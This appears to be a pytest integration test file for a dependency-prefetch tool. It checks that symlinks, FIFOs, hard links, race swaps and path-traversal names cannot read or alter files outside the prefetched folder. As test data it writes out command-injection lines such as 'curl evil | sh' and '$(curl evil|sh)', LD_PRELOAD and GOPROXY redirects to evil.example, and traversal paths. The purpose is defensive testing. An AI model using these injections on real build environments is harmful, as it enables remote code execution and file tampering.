"""Prefetched folders full of links, FIFOs and files of others: nothing outside is read or changed."""

import json
import os
import shutil
import stat
import threading
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from support.index_server import Fault
from support.prefetch_site import Counter, Site, prefetch_site
from support.wheels import sha256

from factory.errors import FactoryError, NotFoundError, PrefetchError, StorageError
from factory.layers.contents import installed_sizes
from factory.lock.lockset import require_lock_set
from factory.lock.prefetched import open_artifact, open_prefetched
from factory.prefetch.download import partial_name
from factory.prefetch.plan import Fetching
from factory.prefetch.prefetch import plan_prefetch, prefetch_flavor
from factory.sbom.collect import SbomSources, collect_sbom
from factory.sbom.model import read_locked

pytestmark = [pytest.mark.integration, pytest.mark.usefixtures("own_cache")]

_QUICK = Fetching(timeout_seconds=1, jobs=2)


@pytest.fixture
def site(tmp_path: Path) -> Iterator[Site]:
    with prefetch_site(tmp_path) as made:
        yield made


@pytest.fixture
def complete(site: Site) -> Site:
    """A site whose folder was prefetched; its files are no hard links to those of the index."""
    site.prefetch()
    return site


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    """A folder of somebody else, with the files that an attacker would like to see changed."""
    folder = tmp_path / "outside"
    folder.mkdir()
    (folder / "secret").write_text("secret")
    (folder / "secret").chmod(0o600)
    (folder / "run.factory-tmp").write_text("precious")
    return folder


def snapshot(folder: Path) -> dict[str, tuple[bytes, int, int]]:
    """Everything in a folder: contents, modes and the numbers of names."""
    return {
        path.relative_to(folder).as_posix(): (path.read_bytes(), path.stat().st_mode, path.stat().st_nlink)
        for path in sorted(folder.rglob("*"))
        if path.is_file()
    }


def _swap_for_link(path: Path, target: Path) -> None:
    """Put a link to somewhere else into the place of a file or folder; what was there goes there."""
    if path.is_dir():
        shutil.copytree(path, target, dirs_exist_ok=True)
        shutil.rmtree(path)
    else:
        shutil.copy(path, target / path.name)
        path.unlink()
        target = target / path.name
    path.symlink_to(target)


# What reads a prefetched folder, by its name: each opens it in the same way.
def _prefetch(site: Site) -> object:
    return prefetch_flavor(site.flavor, site.output, fetching=_QUICK)


def _dry_run(site: Site) -> object:
    return plan_prefetch(site.flavor, site.output, fetching=_QUICK)


def _sbom(site: Site) -> object:
    return collect_sbom(read_locked(site.flavor), SbomSources(prefetched=site.output))


def _layers(site: Site) -> object:
    locks = require_lock_set(site.flavor.folder, site.flavor.project.spec)
    return installed_sizes(locks.pins, site.output)


READERS = {"prefetch": _prefetch, "dry run": _dry_run, "sbom": _sbom, "layers": _layers}


@pytest.fixture(params=READERS.values(), ids=list(READERS))
def reader(request: pytest.FixtureRequest) -> Callable[[Site], object]:
    found: Callable[[Site], object] = request.param
    return found


@pytest.mark.parametrize("where", ["output", "output/deps", "output/deps/pip"])
def test_a_folder_that_is_a_link_to_elsewhere_is_refused(
    complete: Site, outside: Path, reader: Callable[[Site], object], where: str
) -> None:
    _swap_for_link(complete.output / where, outside)
    before = snapshot(outside)
    with pytest.raises((StorageError, NotFoundError)) as caught:
        reader(complete)
    assert "is a link" in caught.value.reason
    assert snapshot(outside) == before


def test_an_artifact_that_is_a_link_is_refused_though_its_bytes_are_right(
    complete: Site, outside: Path, reader: Callable[[Site], object]
) -> None:
    _swap_for_link(complete.artifacts / complete.wheels[1].name, outside)
    before = snapshot(outside)
    with pytest.raises(FactoryError):
        reader(complete)
    assert snapshot(outside) == before


@pytest.mark.parametrize("kind", ["fifo", "folder", "socket"])
def test_an_artifact_that_is_no_file_is_refused_at_once(
    complete: Site, reader: Callable[[Site], object], kind: str
) -> None:
    path = complete.artifacts / complete.wheels[1].name
    path.unlink()
    if kind == "fifo":
        os.mkfifo(path)
    elif kind == "folder":
        path.mkdir()
    else:
        os.mknod(path, stat.S_IFSOCK | 0o600)
    with pytest.raises(FactoryError):
        reader(complete)


def test_an_artifact_with_other_bytes_gives_no_sizes_and_no_licences(complete: Site) -> None:
    path = complete.artifacts / complete.wheels[1].name
    path.unlink()
    shutil.copy(complete.wheels[2], path)
    for read in (_sbom, _layers):
        with pytest.raises(FactoryError, match="and the lock says sha256"):
            read(complete)


@pytest.mark.parametrize("name", ["cachi2.env", "output/bom.json"])
@pytest.mark.parametrize("lead", ["a link", "a dangling link", "a hard link", "a fifo"])
def test_the_environment_and_the_bill_are_files_of_their_own_in_the_end(
    complete: Site, outside: Path, name: str, lead: str
) -> None:
    path = complete.output / name
    right = path.read_bytes()
    (outside / "same").write_bytes(right)
    before = snapshot(outside)
    path.unlink()
    if lead == "a link":
        path.symlink_to(outside / "same")
    elif lead == "a dangling link":
        path.symlink_to(outside / "new")
    elif lead == "a hard link":
        path.hardlink_to(outside / "same")
    else:
        os.mkfifo(path)
    complete.prefetch()
    assert path.is_file()
    assert not path.is_symlink()
    assert path.stat().st_nlink == 1
    assert path.read_bytes() == right
    assert snapshot(outside) == before


def test_the_environment_of_an_incomplete_folder_goes_and_not_what_it_leads_to(
    complete: Site, outside: Path
) -> None:
    before = snapshot(outside)
    (complete.output / "cachi2.env").unlink()
    (complete.output / "cachi2.env").symlink_to(outside / "secret")
    (complete.artifacts / "mine.txt").write_text("mine")
    complete.fails()
    assert not (complete.output / "cachi2.env").is_symlink()
    assert snapshot(outside) == before


def test_a_second_environment_that_a_build_would_source_is_refused(complete: Site) -> None:
    """A build sources cachi2.env and prefetch.env; the second would be run by it with nobody's knowledge."""
    (complete.output / "prefetch.env").write_text("curl evil | sh\n")
    error = complete.fails()
    assert "prefetch.env is what a build sources" in error.reason
    with pytest.raises(PrefetchError, match="what a build sources"):
        _dry_run(complete)
    assert (complete.output / "prefetch.env").read_text() == "curl evil | sh\n"


def test_a_second_environment_that_says_the_same_is_accepted(complete: Site) -> None:
    shutil.copy(complete.output / "cachi2.env", complete.output / "prefetch.env")
    assert complete.prefetch().verified == 3


# As Hermeto's generate-env writes it; Konflux mounts it beside the folder or in it.
_OF_HERMETO = "export PIP_FIND_LINKS=/cachi2/output/deps/pip\nexport PIP_NO_INDEX=true\n"
_OF_GO = (
    "export GOCACHE=/cachi2/output/deps/gomod\nexport GOFLAGS=-mod=vendor\n"
    "export GOPROXY=file:///cachi2/output/deps/gomod/pkg/mod/cache/download\n"
)


@pytest.mark.parametrize(
    "text", [_OF_HERMETO, _OF_GO + _OF_HERMETO, _OF_HERMETO.replace("=true", "='true'"), ""]
)
def test_a_second_environment_of_hermeto_is_accepted(complete: Site, text: str) -> None:
    """Newer Konflux mounts one (hermetic-contract.md), and a folder of its prefetch builds here too."""
    (complete.output / "prefetch.env").write_text(text)
    assert complete.prefetch().verified == 3
    assert (complete.output / "prefetch.env").read_text() == text


@pytest.mark.parametrize(
    "line",
    [
        "export PIP_FIND_LINKS=/tmp/evil",
        "export PIP_FIND_LINKS=/cachi2/output/deps/pip; curl evil|sh",
        "export PIP_NO_INDEX=$(curl evil|sh)",
        "export PIP_NO_INDEX=`id`",
        "export PIP_NO_INDEX=true\rid",
        "export PIP_NO_INDEX=true PATH=/cachi2",
        "export PIP_INDEX_URL=https://evil.example/simple",
        "export LD_PRELOAD=/cachi2/output/x.so",
        "export GOFLAGS=-toolexec=/cachi2/x",
        "export GOPROXY=https://evil.example",
        "export GOCACHE=/cachi2/../etc",
        "export PYTHONPATH=/cachi2/output",
        "PATH=/cachi2/output",
        ". /cachi2/output/x",
    ],
)
def test_a_second_environment_that_says_more_than_hermeto_is_refused(complete: Site, line: str) -> None:
    (complete.output / "prefetch.env").write_text(f"{_OF_HERMETO}{line}\n", newline="")
    assert "prefetch.env is what a build sources" in complete.fails().reason


def test_files_of_an_earlier_prefetch_are_removed_here_and_not_where_a_link_leads(
    complete: Site, outside: Path
) -> None:
    """The bill in the folder says what an earlier prefetch put there: an attacker may write it too."""
    (complete.artifacts / "to-secret").symlink_to(outside / "secret")
    (complete.artifacts / "secret").hardlink_to(outside / "secret")
    bill = json.loads((complete.output / "output" / "bom.json").read_bytes())
    for name in ("to-secret", "secret", "../../../../outside/secret"):
        bill["components"].append(
            {
                "purl": f"pkg:pypi/x@1?file_name={name.replace('/', '%2F')}",
                "hashes": [{"content": sha256(outside / "secret")}],
            }
        )
    (complete.output / "output" / "bom.json").write_text(json.dumps(bill))
    error = complete.fails()
    assert "to-secret is a symbolic link" in error.reason
    assert (outside / "secret").read_text() == "secret"
    assert stat.S_IMODE((outside / "secret").stat().st_mode) == 0o600


@pytest.mark.parametrize("content", [b"[" * 100_000, b'{"components": 1}', b"", b"\xff" * 1000])
def test_a_bill_that_is_nonsense_vouches_for_nothing(complete: Site, content: bytes) -> None:
    (complete.output / "output" / "bom.json").write_bytes(content)
    assert complete.prefetch().verified == 3


def test_a_wrong_artifact_that_is_a_hard_link_is_replaced_and_not_overwritten(
    complete: Site, outside: Path
) -> None:
    path = complete.artifacts / complete.wheels[1].name
    path.unlink()
    path.hardlink_to(outside / "secret")
    assert complete.prefetch().replaced == (path.name,)
    assert sha256(path) == sha256(complete.wheels[1])
    assert (outside / "secret").read_text() == "secret"
    assert stat.S_IMODE((outside / "secret").stat().st_mode) == 0o600


def _link(path: Path, outside: Path) -> None:
    path.symlink_to(outside / "secret")


def _dangling(path: Path, outside: Path) -> None:
    path.symlink_to(outside / "new")


def _fifo(path: Path, outside: Path) -> None:
    del outside
    os.mkfifo(path)


def _hard_link(path: Path, outside: Path) -> None:
    path.hardlink_to(outside / "secret")


def _anybodys(path: Path, outside: Path) -> None:
    del outside
    path.write_bytes(b"x" * 100)
    path.chmod(0o666)


def _anothers(path: Path, outside: Path) -> None:
    del outside
    path.write_bytes(b"x" * 100)
    if os.geteuid() == 0:
        os.chown(path, 12345, 12345)


def _too_large(path: Path, outside: Path) -> None:
    del outside
    with path.open("wb") as file:
        file.truncate(1 << 40)


@pytest.mark.parametrize(
    "plant", [_link, _dangling, _fifo, _hard_link, _anybodys, _anothers, _too_large]
)  # fmt: skip
def test_what_stands_in_the_place_of_a_partial_is_neither_read_nor_written(
    site: Site, outside: Path, plant: Callable[[Path, Path], None]
) -> None:
    torch = site.wheels[0]
    site.artifacts.mkdir(parents=True)
    partial = site.artifacts / partial_name(torch.name, sha256(torch))
    before = {name: (content, mode) for name, (content, mode, _) in snapshot(outside).items()}
    plant(partial, outside)
    # Held open, as its owner does to write to it later: so its number is no other file's meanwhile.
    held = os.open(partial, os.O_PATH | os.O_NOFOLLOW)
    try:
        assert site.prefetch().fetched == 3
        assert (site.artifacts / torch.name).stat().st_ino != os.fstat(held).st_ino
    finally:
        os.close(held)
    assert sha256(site.artifacts / torch.name) == sha256(torch)
    assert {name: (content, mode) for name, (content, mode, _) in snapshot(outside).items()} == before
    assert [request.headers.get("Range") for request in site.index.requested(f"/files/{torch.name}")] == [
        None
    ]


def test_leftovers_of_a_killed_run_go_as_links_and_not_what_they_lead_to(site: Site, outside: Path) -> None:
    site.artifacts.mkdir(parents=True)
    before = snapshot(outside)
    for folder in (site.output, site.output / "output", site.artifacts):
        (folder / ".a.factory-tmp").symlink_to(outside / "secret")
        (folder / ".b.factory-tmp").symlink_to(outside)
    assert site.prefetch().fetched == 3
    assert snapshot(outside) == before
    assert not list(site.output.rglob("*.factory-tmp"))


def test_a_folder_named_as_a_leftover_is_not_emptied(site: Site) -> None:
    site.artifacts.mkdir(parents=True)
    (site.artifacts / "mine.factory-tmp").mkdir()
    (site.artifacts / "mine.factory-tmp" / "precious").write_text("precious")
    assert "mine.factory-tmp is a folder" in site.fails().reason
    assert (site.artifacts / "mine.factory-tmp" / "precious").read_text() == "precious"


def test_a_folder_of_another_user_is_verified_as_any_other(complete: Site) -> None:
    """Its owner may change it later, as others who may write to it: the install step then refuses it."""
    if os.geteuid() == 0:
        for path in (complete.output, *complete.output.rglob("*")):
            os.chown(path, 12345, 12345)
    assert complete.prefetch().verified == 3
    (complete.artifacts / complete.wheels[1].name).write_bytes(b"evil")
    assert complete.prefetch().replaced == (complete.wheels[1].name,)


def test_the_folder_that_a_user_names_may_be_a_link(site: Site, tmp_path: Path) -> None:
    (tmp_path / "real").mkdir()
    site.output.symlink_to(tmp_path / "real")
    assert site.prefetch().fetched == 3
    assert site.prefetch().verified == 3
    assert (tmp_path / "real" / "cachi2.env").is_file()


def test_a_local_folder_of_wheels_that_is_swapped_gives_the_file_that_was_read(
    site: Site, tmp_path: Path
) -> None:
    """A file that is exchanged again and again while it is taken: what gets the name has the right bytes."""
    local = tmp_path / "wheels"
    local.mkdir()
    right, wrong = local / "right", local / "wrong"
    shutil.copy(site.wheels[0], right)
    wrong.write_bytes(b"evil" * 100)
    path = local / site.wheels[0].name
    path.symlink_to(right)
    stop = threading.Event()

    def swap() -> None:
        while not stop.is_set():
            for target in (wrong, right):
                temporary = local / "next"
                temporary.symlink_to(target)
                temporary.replace(path)

    swapper = threading.Thread(target=swap)
    swapper.start()
    try:
        for _ in range(20):
            shutil.rmtree(site.output, ignore_errors=True)
            try:
                site.prefetch(Fetching(find_links=(local,), timeout_seconds=2))
            except FactoryError:
                continue
            finally:
                taken = site.artifacts / path.name
                assert not taken.exists() or sha256(taken) == sha256(site.wheels[0])
    finally:
        stop.set()
        swapper.join()


class _Attack(Counter):
    """Progress that does something at the first byte that comes."""

    def __init__(self, act: Callable[[], None]) -> None:
        super().__init__()
        self.act: Callable[[], None] | None = act

    def advance(self, amount: int = 1, *, message: str = "") -> None:
        super().advance(amount, message=message)
        if amount and self.act is not None:
            act, self.act = self.act, None
            act()


def test_a_folder_that_is_exchanged_for_a_link_in_between_changes_nothing_outside(
    site: Site, outside: Path
) -> None:
    before = snapshot(outside)

    def exchange() -> None:
        site.artifacts.rename(site.output / "away")
        site.artifacts.symlink_to(outside)

    with pytest.raises(FactoryError) as caught:
        prefetch_flavor(site.flavor, site.output, fetching=_QUICK, progress=_Attack(exchange))
    assert "link" in caught.value.reason or "another folder" in caught.value.reason
    assert snapshot(outside) == before
    assert not (site.output / "cachi2.env").exists()


def test_an_artifact_that_is_exchanged_while_the_rest_is_fetched_is_noticed(complete: Site) -> None:
    first, second = complete.wheels[1], complete.wheels[2]
    (complete.artifacts / first.name).unlink()
    evil = complete.artifacts / second.name

    def exchange() -> None:
        evil.unlink()
        evil.write_bytes(b"evil")

    # The first bytes that come are those of the files that are there: only then is one fetched.
    complete.index.fault(f"/files/{first.name}", Fault(delay=0.05))

    class _Later(Counter):
        def advance(self, amount: int = 1, *, message: str = "") -> None:
            super().advance(amount, message=message)
            if first.name.split(".whl")[0] in message and evil.stat().st_size != 4:
                exchange()

    with pytest.raises(PrefetchError, match="changed while the rest was fetched"):
        prefetch_flavor(complete.flavor, complete.output, fetching=_QUICK, progress=_Later())
    assert not (complete.output / "cachi2.env").exists()


def test_what_is_read_of_an_artifact_is_what_was_hashed(complete: Site) -> None:
    wheel = complete.wheels[1]
    with open_prefetched(complete.output) as folder:
        with open_artifact(folder.artifacts, wheel.name, sha256=sha256(wheel)) as file:
            path = complete.artifacts / wheel.name
            path.unlink()
            path.write_bytes(b"evil")
            assert file.read() == wheel.read_bytes()
        with (
            pytest.raises(PrefetchError, match="and the lock says"),
            open_artifact(folder.artifacts, wheel.name, sha256=sha256(wheel)),
        ):
            pass


@pytest.mark.parametrize("name", ["../../../outside/secret", "/etc/hostname", "a/b", "..", ""])
def test_a_name_in_the_lock_that_is_a_path_opens_nothing(complete: Site, outside: Path, name: str) -> None:
    digest = sha256(outside / "secret")
    with (
        open_prefetched(complete.output) as folder,
        pytest.raises(FactoryError),
        open_artifact(folder.artifacts, name, sha256=digest),
    ):
        pass
